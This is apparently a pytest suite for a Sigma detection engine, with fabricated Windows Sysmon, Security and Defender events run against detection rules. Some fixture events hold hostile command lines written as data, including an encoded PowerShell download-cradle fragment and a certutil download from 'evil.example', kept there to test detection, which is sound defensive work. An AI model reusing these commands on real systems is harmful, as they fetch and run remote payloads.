"""The Sigma engine on small, real-world-shaped rules and events: every modifier, field absence,
logsource targets and field mappings, correlations, and rules that cannot run.

Events are written as the flat JSON event-log export (the OTRF/NXLog shape) and go through the real
ingest into a real case store; rules are real Sigma YAML converted by pySigma.
"""

from __future__ import annotations

import base64
import textwrap
from pathlib import Path

import orjson
import pytest

from turncoat import pipeline
from turncoat.detect.sigma.engine import Filters
from turncoat.detect.sigma.rules import keep, load_rules

SYSMON = "Microsoft-Windows-Sysmon/Operational"
DEFENDER = "Microsoft-Windows-Windows Defender/Operational"
ENCODED = base64.b64encode("IEX (New-Object Net.WebClient)".encode("utf-16-le")).decode()

EVENTS = [
    # 1 — Sysmon process creation on wks-01
    {"Channel": SYSMON, "EventID": 1, "Hostname": "wks-01", "EventRecordID": 1,
     "TimeCreated": "2023-03-22T10:00:00Z", "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "OriginalFileName": "PowerShell.EXE", "CommandLine": f"powershell.exe -nop -enc {ENCODED}",
     "ParentImage": "C:\\Users\\ann\\AppData\\Local\\Programs\\3CXDesktopApp\\app\\3CXDesktopApp.exe",
     "User": "CORP\\ann", "IntegrityLevel": "Medium", "ProcessId": "4242", "ParentProcessId": "1000",
     "FileVersion": "10.0.19041.1"},
    # 2 — Sysmon process creation, certutil with a dash variant
    {"Channel": SYSMON, "EventID": 1, "Hostname": "wks-01", "EventRecordID": 2,
     "TimeCreated": "2023-03-22T10:00:30Z", "Image": "C:\\Windows\\System32\\certutil.exe",
     "OriginalFileName": "CertUtil.exe", "CommandLine": "certutil.exe /urlcache /f http://evil.example/a a.exe",
     "ParentImage": "C:\\Windows\\explorer.exe", "User": "CORP\\ann", "ProcessId": "77", "ParentProcessId": "77"},
    # 3 — Security 4688 (no OriginalFileName, other field names) on wks-02
    {"Channel": "Security", "EventID": 4688, "Hostname": "wks-02", "EventRecordID": 3,
     "TimeCreated": "2023-03-22T10:01:00Z", "NewProcessName": "C:\\Windows\\System32\\whoami.exe",
     "ParentProcessName": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "whoami /all",
     "SubjectUserName": "bob", "NewProcessId": "0x1a4", "ProcessId": "0x99"},
    # 4 — Sysmon network connection (public and private destinations)
    {"Channel": SYSMON, "EventID": 3, "Hostname": "wks-01", "EventRecordID": 4,
     "TimeCreated": "2023-03-22T10:02:00Z", "Image": "C:\\app\\3CXDesktopApp.exe", "DestinationIp": "10.1.2.3",
     "DestinationPort": "443", "DestinationHostname": "files.corp.local", "Initiated": "true"},
    {"Channel": SYSMON, "EventID": 3, "Hostname": "wks-01", "EventRecordID": 5,
     "TimeCreated": "2023-03-22T23:05:00Z", "Image": "C:\\app\\3CXDesktopApp.exe", "DestinationIp": "203.0.113.9",
     "DestinationPort": "8443", "DestinationHostname": "msstorageazure.com", "Initiated": "true"},
    # 6 — Defender detection: its fields have spaces in the event ("Threat Name")
    {"Channel": DEFENDER, "EventID": 1116, "Hostname": "wks-02", "EventRecordID": 6,
     "TimeCreated": "2023-03-22T11:00:00Z", "Threat Name": "Trojan:Win64/SamScissors.A!dha",
     "Process Name": "C:\\Users\\bob\\AppData\\Local\\Programs\\3CXDesktopApp\\3CXDesktopApp.exe"},
    # 7..10 — failed logons for correlations (Security 4625), one account, several sources
    *[{"Channel": "Security", "EventID": 4625, "Hostname": "dc-01", "EventRecordID": 10 + i,
       "TimeCreated": f"2023-03-22T12:00:{10 * i:02d}Z", "TargetUserName": "admin" if i < 3 else "svc",
       "IpAddress": f"192.0.2.{i}", "LogonType": "3", "Status": "0xc000006d", "FailureReason": "%%2313",
       "SubjectUserName": "-", "ProcessId": str(100 * (i + 1))} for i in range(4)],
    # 12 — MsiInstaller: unnamed <Data> items (stored as a JSON array)
    {"Channel": "Application", "EventID": 1040, "Hostname": "wks-04", "EventRecordID": 30,
     "SourceName": "MsiInstaller", "TimeCreated": "2023-03-22T09:00:00Z",
     "param1": "C:\\Users\\Public\\setup.msi", "param2": "2128"},
    # 11 — a process creation the next day (for timestamp parts and time filters)
    {"Channel": SYSMON, "EventID": 1, "Hostname": "wks-03", "EventRecordID": 20,
     "TimeCreated": "2023-03-23T03:15:00Z", "Image": "C:\\Tools\\PsExec64.exe", "OriginalFileName": "psexec.c",
     "CommandLine": "PsExec64.exe \\\\dc-01 -s cmd", "ParentImage": "C:\\Windows\\explorer.exe",
     "User": "CORP\\Admin", "ProcessId": "5", "ParentProcessId": "4"},
]


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("sigma-events")
    (folder / "events.json").write_bytes(b"\n".join(orjson.dumps(e) for e in EVENTS) + b"\n")
    case = folder / "case"
    pipeline.ingest([folder / "events.json"], case)
    return case


def _rules(tmp: Path, *texts: str) -> list[Path]:
    paths = []
    for n, text in enumerate(texts):
        path = tmp / f"rule{n}.yml"
        path.write_text(textwrap.dedent(text), encoding="utf-8")
        paths.append(path)
    return paths


def _hunt(case: Path, tmp: Path, *texts: str, placeholders: dict | None = None,
          filters: Filters | None = None) -> tuple[list[dict], object]:
    ruleset = load_rules(_rules(tmp, *texts), placeholders, cache=False)
    rows, _ = pipeline.sigma_search(case, ruleset, filters or Filters())
    return rows, ruleset


def _ids(rows: list[dict]) -> list[int]:
    return sorted(r["record_id"] for r in rows)


def rule(detection: str, logsource: str = "category: process_creation\n    product: windows", **extra: str) -> str:
    more = "".join(f"{k}: {v}\n" for k, v in extra.items())
    return f"""\
title: test rule
id: 5a0b1c2d-0000-4000-8000-000000000001
status: test
level: high
{more}logsource:
    {logsource}
detection:
{textwrap.indent(textwrap.dedent(detection), '    ')}
"""


# --- string modifiers and case -------------------------------------------------------------------

@pytest.mark.parametrize(("detection", "expected"), [
    ("sel:\n    Image|endswith: '\\POWERSHELL.EXE'\ncondition: sel", [1]),           # case-insensitive
    ("sel:\n    Image|startswith: 'c:\\windows\\system32\\'\ncondition: sel", [1, 2, 3]),  # 4688 mapped
    ("sel:\n    CommandLine|contains: '/URLCACHE'\ncondition: sel", [2]),
    ("sel:\n    CommandLine|contains|all:\n      - '-nop'\n      - '-enc'\ncondition: sel", [1]),
    ("sel:\n    Image: '*\\cert?til.exe'\ncondition: sel", [2]),                      # wildcards
    ("sel:\n    Image: 'C:\\Windows\\System32\\certutil.exe'\ncondition: sel", [2]),  # plain equality
    ("sel:\n    Image|cased: 'C:\\Windows\\System32\\CERTUTIL.exe'\ncondition: sel", []),
    ("sel:\n    Image|endswith|cased: '\\certutil.exe'\ncondition: sel", [2]),
    ("sel:\n    CommandLine|windash|contains: '-urlcache'\ncondition: sel", [2]),   # /urlcache
    ("sel:\n    CommandLine|base64offset|contains: 'Net.WebClient'\ncondition: sel", []),  # utf-8 base64
    ("sel:\n    CommandLine|wide|base64offset|contains: 'Net.WebClient'\ncondition: sel", [1]),
    ("sel:\n    CommandLine|utf16le|base64offset|contains: 'New-Object'\ncondition: sel", [1]),
    ("sel:\n    CommandLine|utf16|base64offset|contains: 'New-Object'\ncondition: sel", []),  # BOM first
    # ASCII in UTF-16BE is the UTF-16LE byte stream shifted by one byte, which base64offset covers
    ("sel:\n    CommandLine|utf16be|base64offset|contains: 'New-Object'\ncondition: sel", [1]),
    ("sel:\n    CommandLine|base64|contains: 'whoami /all'\ncondition: sel", []),
    ("sel:\n    User|neq: 'CORP\\ann'\ncondition: sel", [3, 20]),      # 4688 user is `bob` (SubjectUserName)
])
def test_string_modifiers(case: Path, tmp_path: Path, detection: str, expected: list[int]) -> None:
    rows, ruleset = _hunt(case, tmp_path, rule(detection))
    assert not ruleset.unconverted, ruleset.unconverted
    assert _ids(rows) == expected


def test_base64_modifier_matches_the_encoded_text(case: Path, tmp_path: Path) -> None:
    encoded_part = ENCODED[:16]  # the first 12 bytes of UTF-16 text encode to these 16 characters
    rows, _ = _hunt(case, tmp_path, rule(f"sel:\n    CommandLine|contains: '{encoded_part}'\ncondition: sel"))
    assert _ids(rows) == [1]
    rows, _ = _hunt(case, tmp_path, rule("sel:\n    CommandLine|wide|base64|contains: 'IEX (New'\ncondition: sel"))
    assert _ids(rows) == []  # base64 of the whole UTF-16 value would need the exact leading bytes


@pytest.mark.parametrize(("detection", "expected"), [
    ("sel:\n    CommandLine|re: 'enc [A-Za-z0-9+/=]{20,}'\ncondition: sel", [1]),
    ("sel:\n    CommandLine|re: 'CERTUTIL'\ncondition: sel", []),               # re is case-sensitive
    ("sel:\n    CommandLine|re|i: 'CERTUTIL'\ncondition: sel", [2]),
    ("sel:\n    CommandLine|re|s: 'certutil.*a\\.exe'\ncondition: sel", [2]),
    ("sel:\n    CommandLine|re|m: '^whoami'\ncondition: sel", [3]),
])
def test_regular_expressions(case: Path, tmp_path: Path, detection: str, expected: list[int]) -> None:
    rows, _ = _hunt(case, tmp_path, rule(detection))
    assert _ids(rows) == expected


NETCON = "category: network_connection\n    product: windows"


@pytest.mark.parametrize(("detection", "expected"), [
    ("sel:\n    DestinationIp|cidr: '10.0.0.0/8'\ncondition: sel", [4]),
    ("sel:\n    DestinationIp|cidr:\n      - '10.0.0.0/8'\n      - '203.0.113.0/24'\ncondition: sel", [4, 5]),
    ("sel:\n    DestinationPort|gt: 1000\ncondition: sel", [5]),
    ("sel:\n    DestinationPort|gte: 443\ncondition: sel", [4, 5]),
    ("sel:\n    DestinationPort|lt: 443\ncondition: sel", []),
    ("sel:\n    DestinationPort|lte: 443\ncondition: sel", [4]),
    ("sel:\n    DestinationPort: 443\ncondition: sel", [4]),                    # a number against text
    ("sel:\n    Initiated: 'true'\ncondition: sel", [4, 5]),
    ("sel:\n    Image|hour: 23\ncondition: sel", []),                          # Image is not a time
    ("sel:\n    '@timestamp|hour': 23\ncondition: sel", [5]),
    ("sel:\n    '@timestamp|minute': 2\ncondition: sel", [4]),
    ("sel:\n    '@timestamp|day': 22\ncondition: sel", [4, 5]),
    ("sel:\n    '@timestamp|month': 3\ncondition: sel", [4, 5]),
    ("sel:\n    '@timestamp|year': 2023\ncondition: sel", [4, 5]),
    ("sel:\n    '@timestamp|week': 12\ncondition: sel", [4, 5]),
])
def test_network_fields_numbers_and_time_parts(case: Path, tmp_path: Path, detection: str,
                                                expected: list[int]) -> None:
    rows, ruleset = _hunt(case, tmp_path, rule(detection, NETCON))
    assert not ruleset.unconverted, ruleset.unconverted
    assert _ids(rows) == expected


def test_exists_null_and_field_references(case: Path, tmp_path: Path) -> None:
    exists = rule("sel:\n    OriginalFileName|exists: true\ncondition: sel")
    missing = rule("sel:\n    OriginalFileName|exists: false\ncondition: sel")
    null = rule("sel:\n    OriginalFileName: null\ncondition: sel")
    same = rule("sel:\n    ProcessId|fieldref: ParentProcessId\ncondition: sel")
    assert _ids(_hunt(case, tmp_path, exists)[0]) == [1, 2, 20]
    assert _ids(_hunt(case, tmp_path, missing)[0]) == [3]  # Security 4688 has no such field
    assert _ids(_hunt(case, tmp_path, null)[0]) == [3]
    assert _ids(_hunt(case, tmp_path, same)[0]) == [2]


def test_not_on_a_field_one_provider_lacks(case: Path, tmp_path: Path) -> None:
    """process_creation covers Sysmon 1 and Security 4688; 4688 has no OriginalFileName. A filter on
    it must not drop 4688 events (the field is absent there, so `not …` holds)."""
    text = rule("""\
        sel:
            CommandLine|contains: ' '
        filter:
            OriginalFileName: 'CertUtil.exe'
        condition: sel and not filter""")
    assert _ids(_hunt(case, tmp_path, text)[0]) == [1, 3, 20]


def test_keywords_search_the_whole_event(case: Path, tmp_path: Path) -> None:
    text = rule("keywords:\n    - 'SamScissors'\ncondition: keywords", "product: windows\n    service: windefend")
    assert _ids(_hunt(case, tmp_path, text)[0]) == [6]


def test_unnamed_data_reads_as_text(case: Path, tmp_path: Path) -> None:
    app = "product: windows\n    service: application"
    public = rule("sel:\n    Data|contains: '\\Users\\Public\\'\ncondition: sel", app)
    unc = rule("sel:\n    Data|contains: '\\\\\\\\'\ncondition: sel", app)  # two backslashes: a UNC path
    assert _ids(_hunt(case, tmp_path, public)[0]) == [30]
    assert _ids(_hunt(case, tmp_path, unc)[0]) == []


def test_defender_fields_with_spaces(case: Path, tmp_path: Path) -> None:
    text = rule("sel:\n    ThreatName|contains: 'SamScissors'\n    ProcessName|endswith: '\\3CXDesktopApp.exe'\n"
                "condition: sel", "product: windows\n    service: windefend")
    assert _ids(_hunt(case, tmp_path, text)[0]) == [6]


def test_expand_placeholders(case: Path, tmp_path: Path) -> None:
    text = rule("sel:\n    User|expand: '%admins%'\ncondition: sel")
    rows, ruleset = _hunt(case, tmp_path, text)
    assert not rows and "placeholder %admins% has no values" in ruleset.unconverted[0].reason
    rows, ruleset = _hunt(case, tmp_path, text, placeholders={"admins": ["CORP\\Admin", "CORP\\root"]})
    assert not ruleset.unconverted and _ids(rows) == [20]


def test_security_service_and_logsource_targets(case: Path, tmp_path: Path) -> None:
    security = rule("sel:\n    EventID: 4625\n    TargetUserName: admin\ncondition: sel",
                    "product: windows\n    service: security")
    sysmon_only = rule("sel:\n    EventID: 4625\ncondition: sel", "product: windows\n    service: sysmon")
    assert _ids(_hunt(case, tmp_path, security)[0]) == [10, 11, 12]
    assert _ids(_hunt(case, tmp_path, sysmon_only)[0]) == []


def test_filters_level_status_host_time(case: Path, tmp_path: Path) -> None:
    text = rule("sel:\n    CommandLine|contains: ' '\ncondition: sel")
    since = Filters(since=__import__("datetime").datetime(2023, 3, 23, tzinfo=__import__("datetime").UTC))
    assert _ids(_hunt(case, tmp_path, text, filters=since)[0]) == [20]
    assert _ids(_hunt(case, tmp_path, text, filters=Filters(hosts=["WKS-02"]))[0]) == [3]
    ruleset = load_rules(_rules(tmp_path, text), cache=False)
    assert len(keep(ruleset, "critical").rules) == 0 and len(keep(ruleset, "high").rules) == 1
    assert len(keep(ruleset, None, ["stable"]).rules) == 0 and len(keep(ruleset, None, ["test"]).rules) == 1


def test_records_carry_what_the_jsonl_promises(case: Path, tmp_path: Path) -> None:
    rows, _ = _hunt(case, tmp_path, rule("sel:\n    Image|endswith: '\\certutil.exe'\ncondition: sel",
                                         tags="[attack.t1105, attack.command-and-control]"))
    (row,) = rows
    assert row["rule_id"] == "5a0b1c2d-0000-4000-8000-000000000001" and row["rule_title"] == "test rule"
    assert row["level"] == "high" and row["status"] == "test" and row["host"] == "wks-01"
    assert row["timestamp"] == "2023-03-22T10:00:30.000000Z" and row["record_id"] == 2
    assert row["evidence_path"].endswith("events.json") and row["evidence_id"]
    assert row["tags"] == ["attack.t1105", "attack.command-and-control"]


# --- correlations --------------------------------------------------------------------------------

FAILED = """\
title: failed logon
id: 5a0b1c2d-0000-4000-8000-0000000000f0
name: failed_logon
status: test
level: low
logsource:
    product: windows
    service: security
detection:
    sel:
        EventID: 4625
    condition: sel
"""
PSEXEC = """\
title: psexec
id: 5a0b1c2d-0000-4000-8000-0000000000f1
name: psexec
status: test
level: medium
logsource:
    product: windows
    category: process_creation
detection:
    sel:
        Image|endswith: '\\PsExec64.exe'
    condition: sel
"""


def _correlation(kind: str, condition: str, group_by: str = "", timespan: str = "5m",
                 rules: str = "failed_logon", extra: str = "") -> str:
    rule_list = "".join(f"\n        - {r}" for r in rules.split(","))
    group = f"\n    group-by:\n        - {group_by}" if group_by else ""
    return f"""\
title: {kind} correlation
id: 5a0b1c2d-0000-4000-8000-0000000000c0
status: test
level: high
correlation:
    type: {kind}
    rules:{rule_list}{group}
    timespan: {timespan}
    condition:
{textwrap.indent(condition, '        ')}{extra}
"""


@pytest.mark.parametrize(("kind", "condition", "group_by", "expected"), [
    ("event_count", "gte: 3", "TargetUserName", [("admin", 3.0)]),
    ("event_count", "gte: 4", "", [(None, 4.0)]),
    ("event_count", "gte: 5", "", []),
    ("value_count", "gte: 4\nfield: IpAddress", "", [(None, 4.0)]),
    ("value_count", "gte: 2\nfield: IpAddress", "TargetUserName", [("admin", 3.0)]),
    ("value_sum", "gt: 900\nfield: ProcessId", "", [(None, 1000.0)]),
    ("value_avg", "gte: 200\nfield: ProcessId", "TargetUserName", [("admin", 200.0), ("svc", 400.0)]),
    ("value_median", "eq: 200\nfield: ProcessId", "TargetUserName", [("admin", 200.0)]),
    ("value_percentile", "gte: 280\nfield: ProcessId\npercentile: 90", "TargetUserName",
     [("admin", 280.0), ("svc", 400.0)]),
])
def test_aggregate_correlations(case: Path, tmp_path: Path, kind: str, condition: str, group_by: str,
                                expected: list) -> None:
    rows, ruleset = _hunt(case, tmp_path, FAILED, _correlation(kind, condition, group_by))
    assert not ruleset.unconverted, ruleset.unconverted
    found = sorted(((r["group"].get(group_by) if group_by else None), r["value"]) for r in rows
                   if r.get("correlation"))
    assert found == expected
    assert not any(r["rule_title"] == "failed logon" for r in rows)  # generate: false (the default)


def test_event_count_respects_the_timespan(case: Path, tmp_path: Path) -> None:
    rows, _ = _hunt(case, tmp_path, FAILED, _correlation("event_count", "gte: 3", timespan="15s"))
    assert not [r for r in rows if r.get("correlation")]  # events are 10 s apart: two per 15 s at most
    rows, _ = _hunt(case, tmp_path, FAILED, _correlation("event_count", "gte: 2", timespan="15s",
                                                         extra="\n    generate: true"))
    windows = [r for r in rows if r.get("correlation")]
    assert [w["events"] for w in windows] == [2, 2]  # one hit per window, not one per event
    assert sum(1 for r in rows if r["rule_title"] == "failed logon") == 4  # generate: true


def test_temporal_correlations(case: Path, tmp_path: Path) -> None:
    both = "failed_logon,psexec"
    day = _correlation("temporal", "gte: 2", timespan="1d", rules=both)
    short = _correlation("temporal", "gte: 2", timespan="1h", rules=both)
    ordered = _correlation("temporal_ordered", "gte: 2", timespan="1d", rules=both)
    reversed_ = _correlation("temporal_ordered", "gte: 2", timespan="1d", rules="psexec,failed_logon")
    count = lambda text: len([r for r in _hunt(case, tmp_path, FAILED, PSEXEC, text)[0] if r.get("correlation")])  # noqa: E731
    assert count(day) == 1 and count(short) == 0
    assert count(ordered) == 1 and count(reversed_) == 0


def test_field_aliases_group_across_rules(case: Path, tmp_path: Path) -> None:
    text = _correlation("temporal", "gte: 2", group_by="account", timespan="1d", rules="failed_logon,psexec",
                        extra="\n    aliases:\n        account:\n            failed_logon: TargetUserName\n"
                              "            psexec: User")
    rows, ruleset = _hunt(case, tmp_path, FAILED, PSEXEC, text)
    assert not ruleset.unconverted, ruleset.unconverted
    # admin (4625) and CORP\\Admin (Sysmon) differ as values, so no group holds both rules
    assert not [r for r in rows if r.get("correlation")]


# --- bad rules -----------------------------------------------------------------------------------

def test_bad_rules_are_listed_and_the_run_goes_on(case: Path, tmp_path: Path) -> None:
    good = rule("sel:\n    Image|endswith: '\\certutil.exe'\ncondition: sel")
    bad_yaml = "title: broken\ndetection: [unclosed\n"
    unknown_modifier = rule("sel:\n    Image|endswithh: 'x'\ncondition: sel").replace("0001", "0002")
    unknown_source = rule("sel:\n    foo: bar\ncondition: sel", "product: mainframe\n    service: zos")
    backtracking = rule("sel:\n    CommandLine|re: '(?=a)(a+)+\\1'\ncondition: sel").replace("0001", "0003")
    no_target = rule("sel:\n    foo: bar\ncondition: sel", "category: file_access\n    product: windows")
    paths = _rules(tmp_path, good, bad_yaml, unknown_modifier, unknown_source, backtracking, no_target)
    (tmp_path / "huge.yml").write_bytes(b"#" * (5 * 1024 * 1024))
    (tmp_path / "latin1.yml").write_bytes("title: caf\xe9\n".encode("latin-1"))
    ruleset = load_rules([tmp_path], cache=False)
    reasons = {Path(u.path).name: u.reason for u in ruleset.unconverted}
    assert "not valid Sigma YAML" in reasons[paths[1].name] or "not valid Sigma" in reasons[paths[1].name]
    assert "endswithh" in reasons[paths[2].name]
    assert "mainframe/-/zos" in reasons[paths[3].name]
    assert "RE2" in reasons[paths[4].name] or "invalid perl operator" in reasons[paths[4].name]
    assert "Kernel-File" in reasons[paths[5].name]
    assert "too large" in reasons["huge.yml"] and "cannot read" in reasons["latin1.yml"]
    rows, _ = pipeline.sigma_search(case, ruleset, Filters())
    assert _ids(rows) == [2]


def test_conversion_cache_is_reused(tmp_path: Path) -> None:
    paths = _rules(tmp_path, rule("sel:\n    Image|endswith: '\\x.exe'\ncondition: sel"))
    first = load_rules(paths, cache=tmp_path / "cache")
    again = load_rules(paths, cache=tmp_path / "cache")
    assert first.cached == 0 and again.cached == 1 and again.rules[0].expr == first.rules[0].expr
    paths[0].write_text(paths[0].read_text().replace("x.exe", "y.exe"))
    changed = load_rules(paths, cache=tmp_path / "cache")
    assert changed.cached == 0 and "y.exe" in changed.rules[0].expr
